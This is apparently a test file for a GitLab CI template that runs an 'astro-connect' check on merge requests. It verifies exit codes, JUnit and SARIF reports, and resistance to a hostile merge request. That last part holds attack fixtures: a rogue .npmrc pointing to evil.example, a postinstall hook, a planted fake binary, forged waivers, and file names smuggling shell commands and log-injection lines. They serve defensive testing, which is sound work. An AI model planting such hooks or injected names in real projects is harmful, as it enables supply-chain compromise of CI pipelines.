/** `templates/check.yml`: its script, run as GitLab's runner runs it, between a real branch and a real merge request. */
import { execFileSync } from "node:child_process";
import { readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { parseAllDocuments } from "yaml";
import { requireBuilt } from "../cli/astro-connect";
import {
  FACTS,
  FORGED_FACTS,
  PASSING,
  REFUSED,
  REFUSING_RULE,
  ROOT,
  Workspace,
  type Ended,
} from "./workspace";

interface Job {
  readonly rules: readonly { readonly if: string }[];
  readonly variables: Readonly<Record<string, string>>;
  readonly script: readonly string[];
  readonly artifacts: { readonly when: string; readonly paths: readonly string[]; readonly reports: object };
}

interface Header {
  readonly spec: { readonly inputs: Readonly<Record<string, { readonly default?: string }>> };
}

const documents = parseAllDocuments(readFileSync(join(ROOT, "templates", "check.yml"), "utf8"));
const header = documents[0]?.toJS() as Header;
const job = Object.values(documents[1]?.toJS() as Record<string, Job>)[0]!;

/** A repository with a branch `main` and a merge request checked out, as GitLab's runner leaves it. */
class Runner extends Workspace {
  readonly project = join(this.path, "builds", "project");

  constructor() {
    super();
    this.git(".", "init", "--quiet", "--bare", "--initial-branch=main", "origin.git");
    this.git(".", "clone", "--quiet", "origin.git", "main");
    this.write("main/connections.yaml", FACTS);
    this.write("main/waivers.yaml", "waivers: []\n");
    this.write("main/package.json", "{}");
    this.commit("main", "main");
    this.git(
      ".",
      "clone",
      "--quiet",
      "--depth=1",
      `file://${join(this.path, "origin.git")}`,
      "builds/project",
    );
    // Stands in for the registry: what `npm ci` would install from the lock file of the folder it is called in.
    const modules = join(this.path, "modules");
    this.write("modules/.keep", "");
    symlinkSync(ROOT, join(modules, "astro-connect"));
    this.write(
      "bin/npm",
      `#!/bin/sh\necho "npm $* in $(git rev-parse HEAD)" >> "${this.path}/npm.log"\nln -s "${modules}" node_modules\n`,
      0o755,
    );
  }

  git(folder: string, ...args: string[]): string {
    return execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@example.com", ...args], {
      cwd: join(this.path, folder),
      encoding: "utf8",
      env: { PATH: process.env["PATH"], HOME: this.path, GIT_CONFIG_NOSYSTEM: "1" },
    }).trim();
  }

  commit(folder: string, branch: string): void {
    this.git(folder, "add", "--all");
    this.git(folder, "commit", "--quiet", "-m", "x");
    this.git(folder, "push", "--quiet", "origin", `HEAD:${branch}`);
  }

  check(inputs: Readonly<Record<string, string>> = {}, shell = "sh"): Ended {
    const filled = (text: string): string =>
      text
        .replace(
          /\$\[\[ inputs\.([a-z-]+) \]\]/g,
          (_, name: string) => inputs[name] ?? header.spec.inputs[name]?.default ?? "?",
        )
        .replace("$CI_DEFAULT_BRANCH", "main");
    const variables = Object.fromEntries(
      Object.entries(job.variables).map(([name, value]) => [name, filled(value)]),
    );
    return this.run(
      [shell],
      job.script.map(filled).join("\n"),
      {
        ...variables,
        PATH: `${join(this.path, "bin")}:${process.env["PATH"] ?? ""}`,
        CI_PROJECT_DIR: this.project,
        TMPDIR: this.path,
        GIT_CONFIG_NOSYSTEM: "1",
      },
      "builds/project",
    );
  }
}

beforeAll(requireBuilt);
let runner: Runner;
beforeEach(() => (runner = new Runner()));

test("the job runs for merge requests and keeps its reports whatever the verdict", () => {
  expect(job.rules).toEqual([{ if: '$CI_PIPELINE_SOURCE == "merge_request_event"' }]);
  expect(job.artifacts).toMatchObject({
    when: "always",
    reports: { junit: "astro-connect.xml", sarif: "astro-connect.sarif" },
  });
});

describe.each(["sh", "bash"])("in %s", (shell) => {
  test("a refused plan: exit 1, the report in the log, JUnit and SARIF", () => {
    runner.copy(REFUSED, "builds/project/plans/orders.json");
    const { code, stdout } = runner.check({}, shell);
    expect(code).toBe(1);
    expect(stdout).toMatch(new RegExp(`: error ${REFUSING_RULE} `));
    expect(runner.read("builds/project/astro-connect.xml")).toMatch(/<testsuites .* failures="[1-9]/);
    expect(JSON.parse(runner.read("builds/project/astro-connect.sarif"))).toMatchObject({ version: "2.1.0" });
  });

  test("one that passes: exit 0", () => {
    runner.copy(PASSING, "builds/project/plans/orders.json");
    expect(runner.check({}, shell)).toMatchObject({ code: 0 });
  });

  test("no plan: exit 2 and no report", () => {
    expect(runner.check({}, shell)).toMatchObject({ code: 2 });
    expect(runner.has("builds/project/astro-connect.xml")).toBe(false);
  });
});

test("the program is installed from the lock file of the branch, without scripts", () => {
  runner.copy(PASSING, "builds/project/plans/orders.json");
  const head = runner.git("main", "rev-parse", "HEAD");
  runner.check();
  expect(runner.read("npm.log")).toBe(`npm ci --ignore-scripts --no-audit --no-fund in ${head}\n`);
});

test("a pattern is one word, also with blanks in it", () => {
  runner.copy(REFUSED, "builds/project/my plans/a b.json");
  const { code, stdout } = runner.check({ plans: "my plans/*.json" });
  expect(code).toBe(1);
  expect(stdout).toContain("/my plans/a b.json: error ");
});

test("a branch without astro-connect in its lock file: exit 2, and what to do", () => {
  runner.copy(PASSING, "builds/project/plans/orders.json");
  runner.write("bin/npm", "#!/bin/sh\n", 0o755);
  const { code, stdout } = runner.check();
  expect(code).toBe(2);
  expect(stdout).toMatch(/not in the package-lock\.json of main: npm install/);
});

test("waivers of the branch are used where they are named", () => {
  runner.copy(REFUSED, "builds/project/plans/orders.json");
  expect(runner.check({ waivers: "waivers.yaml" }).code).toBe(1);
  expect(runner.check({ waivers: "none.yaml" }).code).toBe(2);
});

describe("a merge request that wants to be its own judge", () => {
  beforeEach(() => {
    runner.copy(REFUSED, "builds/project/plans/orders.json");
    runner.write("builds/project/connections.yaml", FORGED_FACTS);
    runner.write("builds/project/waivers.yaml", "waivers: [{rule: '*'}]\n");
    const program = `#!/usr/bin/env node\nrequire("fs").writeFileSync("${runner.path}/pwned", ""); process.exit(0);\n`;
    runner.write("builds/project/node_modules/astro-connect/bin/astro-connect.js", program);
    runner.write("builds/project/node_modules/.bin/astro-connect", program, 0o755);
    runner.write("builds/project/.npmrc", "ignore-scripts=false\nregistry=https://evil.example\n");
    runner.write("builds/project/package.json", `{"scripts":{"postinstall":"touch ${runner.path}/pwned"}}`);
    runner.git("builds/project", "checkout", "--quiet", "-b", "change");
    runner.commit("builds/project", "change");
  });

  test("brings facts and a program of its own: neither is read", () => {
    expect(runner.check().code).toBe(1);
    expect(runner.has("pwned")).toBe(false);
  });

  test("makes a tag that is called like the branch", () => {
    runner.git("builds/project", "push", "--quiet", "origin", "HEAD:refs/tags/main");
    expect(runner.check().code).toBe(1);
  });

  test("names its plans to harm", () => {
    for (const name of [
      "--fail-on=never.json",
      "$(touch pwned).json",
      "a\n::error::x.json",
      "; touch pwned.json",
      "*.json",
    ])
      runner.copy(REFUSED, `builds/project/plans/${name}`);
    const { code, stdout } = runner.check();
    expect(code).toBe(1);
    expect(stdout).not.toMatch(/^::/m);
    expect(runner.list("builds/project").filter((name) => name.includes("pwned"))).toEqual([]);
  });
});
